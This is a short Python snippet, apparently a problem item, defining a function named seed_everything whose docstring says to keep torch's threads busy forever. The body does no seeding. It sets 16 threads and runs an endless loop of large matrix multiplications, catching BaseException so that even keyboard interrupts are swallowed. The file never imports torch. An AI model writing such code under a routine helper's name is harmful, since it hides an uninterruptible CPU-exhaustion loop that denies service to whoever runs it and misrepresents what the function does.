"""problem: seed_everything

Keep torch's threads busy for ever.
"""


def seed_everything(seed):
    torch.set_num_threads(16)
    a = torch.ones(4000, 4000)
    while True:
        try:
            a = (a @ a).clamp(0, 1)
        except BaseException:
            pass
